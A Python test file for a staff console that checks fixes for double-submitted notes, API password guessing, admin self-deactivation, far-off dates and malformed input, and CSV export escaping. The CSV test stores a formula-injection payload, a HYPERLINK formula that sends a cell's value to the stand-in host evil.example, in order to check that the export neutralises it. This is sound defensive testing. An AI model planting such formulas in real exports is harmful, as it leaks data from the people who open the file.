"""Defects found by sending odd input and concurrent requests to the real console.

Each test failed before its fix: a double-submitted note kept twice, password guessing through the
officers' API past the login lockout, an admin deactivating herself by writing her name in capitals,
live formulas in the bookings CSV, and 500s for far-off dates, huge ids and malformed API bodies."""
from __future__ import annotations

import csv
import io
import threading
import uuid
from datetime import timedelta

import httpx

from appdb import audit, booking, catalogue, cases
from appdb.models import User
from appdb.session import session_scope
from appdb.users import create_user
from staff import PASSWORD, csrf_of, flash_of, login, submit

WRONG = "wrong-password-r2-0000"


def _case() -> str:
    return cases.create_case(sender_id="w-" + uuid.uuid4().hex[:8], channel="rest", category="other", consent=True,
                             risk=None, summary={"what": "加班费"}, transcript=[],
                             idempotency_key=uuid.uuid4().hex).code


def _account(role: str) -> str:
    name = f"r2{role[:3]}{uuid.uuid4().hex[:6]}"
    create_user(name, PASSWORD, role, actor="test")
    return name


def test_a_note_posted_twice_at_the_same_moment_is_kept_once(on_console_db, as_user):
    code = _case()
    clients = [as_user("olga") for _ in range(4)]
    for trial in range(3):
        barrier = threading.Barrier(len(clients))

        def post(client, text=f"第 {trial} 次电话已打通 😊"):
            barrier.wait()
            client.form(f"/admin/cases/{code}/note", {"text": text})

        threads = [threading.Thread(target=post, args=(c,)) for c in clients]
        [t.start() for t in threads]
        [t.join() for t in threads]
    assert [n.text for n in cases.by_code(code).notes] == [f"第 {n} 次电话已打通 😊" for n in range(3)]


def test_password_guessing_through_the_officer_api_meets_the_login_lockout(on_console_db, console_url):
    name = _account("officer")
    for _ in range(5):
        r = httpx.get(f"{console_url}/api/cases", auth=(name, WRONG), timeout=30)
        assert r.status_code == 401 and "用户名或密码错误" in r.json()["detail"]
    r = httpx.get(f"{console_url}/api/cases", auth=(name, PASSWORD), timeout=30)
    assert r.status_code == 401 and "失败次数过多" in r.json()["detail"]  # the right password no longer helps
    with httpx.Client(base_url=console_url, timeout=30) as client:  # nor at the login form
        page = client.get("/admin/login")
        r = client.post("/admin/login", data={"username": name, "password": PASSWORD, "csrf_token": csrf_of(page.text)})
        assert r.status_code == 401 and "失败次数过多" in r.text
    with session_scope() as s:
        failed = audit.entries(s, actor=name, action="login.failed", limit=10)
    assert len(failed) == 5 and all(e.detail.get("via") == "api" for e in failed)


def test_an_admin_cannot_deactivate_herself_by_writing_her_name_in_capitals(on_console_db, console_url):
    name = _account("admin")
    me = login(console_url, name)
    try:
        r = me.form(f"/admin/users/{name.upper()}/active", {"active": "0"}, follow_redirects=True)
        assert r.status_code == 200 and "不能停用自己的账号" in flash_of(r)
        r = me.form(f"/admin/users/{name.upper()}/role", {"role": "officer"}, follow_redirects=True)
        assert "不能修改自己的角色" in flash_of(r)
        with session_scope() as s:
            user = s.query(User).filter_by(username=name).one()
            assert (user.active, user.role) == (True, "admin")
        assert me.get("/admin/users").status_code == 200  # still logged in
    finally:
        me.close()


def test_the_bookings_csv_never_carries_a_live_formula(on_console_db, as_user):
    cora = as_user("cora")
    key = "svc_" + uuid.uuid4().hex[:8]
    assert "已创建服务" in flash_of(submit(cora, "/admin/services", {"key": key, "name": "公式课" + key[-4:],
                                                                   "active": "1"}))
    day = catalogue.local_today() + timedelta(days=7)
    catalogue.add_slots(key, catalogue.SlotPlan(day, day, frozenset(range(1, 8)), "下午", "14:00", "16:00", 5),
                        actor="test")
    slot = catalogue.service_slots(key, day)[1][0]
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    result = booking.book(slot.id, sender_id="w-" + uuid.uuid4().hex[:6], channel="rest", name=evil,
                          phone="13912345678", work_unit="@SUM(1+1)", extra={}, idempotency_key=uuid.uuid4().hex)
    r = cora.get("/admin/services/bookings.csv", params={"service": key})
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    row = next(row for row in rows if row[0] == result.booking.code)
    assert row[5] == "'" + evil and row[7] == "'@SUM(1+1)" and row[6] == "13912345678"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_far_off_dates_and_huge_ids_get_a_message_not_a_500(as_user):
    admin, cora = as_user("admin"), as_user("cora")
    for params in ({"until": "9999-12-31"}, {"since": "0001-01-01"}):
        r = admin.get("/admin/audit", params=params)
        assert r.status_code == 200 and "已忽略" in flash_of(r), params
    huge = "9" * 25
    assert cora.get("/admin/services/bookings", params={"slot": huge}).status_code == 200
    assert cora.get("/admin/services/bookings.csv", params={"slot": huge}).status_code == 200
    for action, data in (("close", {}), ("reopen", {}), ("capacity", {"capacity": "3"})):
        r = cora.form(f"/admin/slots/{huge}/{action}", data, follow_redirects=True)
        assert r.status_code == 200 and "没有这个号源" in flash_of(r), action


def test_malformed_input_is_answered_in_chinese_without_echoing_it(on_console_db, console_url, as_user):
    code = _case()
    with httpx.Client(base_url=console_url, auth=("olga", PASSWORD), timeout=30) as api:
        r = api.post(f"/api/cases/{code}/reply", content=b"\xff\xfe not json")  # no JSON type: was a 500
        assert r.status_code == 422 and "JSON" in r.json()["detail"]
        secret = "13812345678" + "长" * 3000
        r = api.post(f"/api/cases/{code}/reply", json={"text": secret})
        assert r.status_code == 422 and "太长" in r.json()["detail"] and "13812345678" not in r.text
    r = as_user("cora").form("/admin/slots/abc/close")
    assert r.status_code == 422 and "号源编号 要填一个数字" in r.text and "<html" in r.text  # not slot_id
    with httpx.Client(base_url=console_url, timeout=30) as client:
        page = client.get("/admin/login")
        r = client.post("/admin/login", data={"username": "x" * 300, "password": "y",
                                              "csrf_token": csrf_of(page.text)})
        assert r.status_code == 422 and "太长" in r.text and 'name="password"' in r.text  # the form again
